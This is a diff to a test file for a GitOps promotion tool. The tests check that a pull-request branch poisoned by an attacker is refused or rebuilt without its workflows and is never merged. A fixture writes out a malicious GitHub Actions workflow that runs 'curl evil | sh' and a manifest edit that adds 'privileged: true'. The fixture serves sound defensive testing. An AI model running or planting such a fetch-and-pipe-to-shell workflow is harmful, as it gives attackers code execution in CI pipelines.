@@ -5,7 +5,9 @@
  * branch into its own commit.
  */
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { explainFailure } from "../../src/action/update/failure.js";
 import { createClient } from "../../src/github/client.js";
+import { BranchReplaceRefusedError } from "../../src/github/commit.js";
 import { deliver, type DeliveryContext, type DeliveryOptions } from "../../src/github/deliver.js";
 import { GitRepo } from "../../src/github/git.js";
 import { startFakeGitHub, type FakeGitHub } from "../support/github-fake.js";
@@ -29,6 +31,8 @@ const PR = "gitops-promote/release";
 const CONFIG = ".github/gitops-promote.yaml";
 const request = (image: string) => ({ images: [image], setters: [], sets: [], paths: [] });
 const pr = (merge: DeliveryOptions["merge"], more: Partial<DeliveryOptions> = {}) => squashPullRequest(PR, merge, more);
+/** A token of Mallory's own, with the `workflow` scope. */
+const MALLORY_TOKEN = "ghp_mallory";
 
 describe("deliver: a pull-request branch someone else pushed to", () => {
   let fake: FakeGitHub;
@@ -40,19 +44,43 @@ describe("deliver: a pull-request branch someone else pushed to", () => {
     const { git } = await checkout(fake, { "app.yaml": deployment("app", `${APP}:1.0.0`), "api.yaml": deployment("api", `${API}:2.0.0`), [CONFIG]: config });
     const client = createClient({ token: fake.token, baseUrl: fake.apiUrl });
     ctx = { git, remote: "origin", repository: { owner: OWNER, repo: REPO }, client: () => client, log: () => undefined };
-    person = new GitRepo(await cloneRepo(fake));
+    // The run's token is GITHUB_TOKEN, which may not write workflows; Mallory pushes with a token of hers that may.
+    fake.setPermissions({ workflows: "none" });
+    fake.addToken(MALLORY_TOKEN);
+    person = new GitRepo(await cloneRepo(fake, { token: MALLORY_TOKEN }));
   });
   afterEach(() => fake.close());
 
   const pushToPr = (files: Record<string, string>, who = mallory) => pushAsPerson(person, PR, files, who);
   const pending = () => checksPending(fake);
-
-  it("a branch made before the run is rebuilt without its workflows and left open, not merged, whatever merge says", async () => {
-    const evil = "on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [ { run: 'curl evil | sh' } ] } }\n";
-    await pushToPr({
+  const evil = "on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [ { run: 'curl evil | sh' } ] } }\n";
+  const pushWorkflow = () =>
+    pushToPr({
       ".github/workflows/pwn.yml": evil,
       "api.yaml": deployment("api", `${API}:2.0.0`).replace("name: api\n", "name: api\n  privileged: true\n"),
     });
+
+  it("a branch made before the run with a workflow on it: GitHub refuses GITHUB_TOKEN the rebuild that leaves it out, and nothing is opened or merged", async () => {
+    await pushWorkflow();
+    const before = (await fake.refs(OWNER, REPO))[`refs/heads/${PR}`];
+
+    const error: unknown = await deliver(ctx, request(`${APP}:1.1.0`), pr("immediate")).catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(BranchReplaceRefusedError);
+    expect((error as Error).message).toMatch(
+      /refusing to allow a GitHub App to create or update workflow \.github\/workflows\/pwn\.yml without workflows permission/,
+    );
+    const at = { repository: { owner: OWNER, repo: REPO }, workflowRepository: `${OWNER}/${REPO}`, tokenGiven: true, tokenLent: false };
+    expect(explainFailure(error, at)).toMatch(
+      /GITHUB_TOKEN can never have it: close the pull request and delete gitops-promote\/release, and the next run opens a fresh one from the base\.$/,
+    );
+    expect((await fake.refs(OWNER, REPO))[`refs/heads/${PR}`]).toBe(before);
+    expect(fake.pulls(OWNER, REPO)).toEqual([]);
+    expect(await fake.readFile(OWNER, REPO, "main", ".github/workflows/pwn.yml")).toBeUndefined();
+  });
+
+  it("with an App token granted Workflows, a branch made before the run is rebuilt without its workflows and left open, not merged, whatever merge says", async () => {
+    fake.setPermissions({ workflows: "write" });
+    await pushWorkflow();
 
     const result = await deliver(ctx, request(`${APP}:1.1.0`), pr("immediate"));
     const [pull] = fake.pulls(OWNER, REPO);
